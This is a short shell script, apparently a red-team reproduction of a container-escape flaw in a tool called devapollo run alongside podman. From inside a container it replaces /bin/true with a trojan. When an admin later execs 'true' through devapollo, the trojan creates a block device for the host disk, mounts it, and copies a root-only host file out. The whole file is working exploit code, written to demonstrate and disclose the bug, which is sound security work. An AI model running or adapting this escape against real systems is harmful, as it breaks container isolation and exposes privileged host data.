#!/bin/sh
# Throwaway repro (redteam1). Needs podman, runc, a daemon on $APOLLO_DIR, a podman image
# with busybox as IMAGE, and HOOKS a directory with the README's podman hook files.
# The host disk is mounted read-write (same superblock as /, ext4 refuses a ro second mount) and unmounted at once.
set -eu
IMAGE=${IMAGE:-rtbase:latest}; HOOKS=${HOOKS:?}; DEV=${DEV:-$(mountpoint -d /)}
P="podman --cgroup-manager cgroupfs --events-backend none"
echo "marker-only-on-host-$$" > /root/rt-host-marker; chmod 600 /root/rt-host-marker
$P run -d --name web-rt --annotation devapollo.name=webrt --network none --runtime runc \
  --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 --hooks-dir "$HOOKS" \
  -v "$APOLLO_DIR/devapollo:/dev/apollo:ro" "$IMAGE" sleep 100000
MAJ=${DEV%:*}; MIN=${DEV#*:}
# The container's own root (CapEff 800405fb, seccomp 2) cannot mknod; it plants a trojan.
$P exec web-rt sh -c "mknod /y b $MAJ $MIN || true; printf '#!/bin/sh\nmknod /disk b $MAJ $MIN; mkdir -p /hostfs && mount -t ext4 /disk /hostfs && cat /hostfs/root/rt-host-marker > /stolen; umount /hostfs\n' > /bin/true; chmod +x /bin/true"
# The admin, later:
devapollo exec webrt -T -- true
$P exec web-rt cat /stolen      # prints the root-only host file
$P rm -f -t 0 web-rt; rm -f /root/rt-host-marker
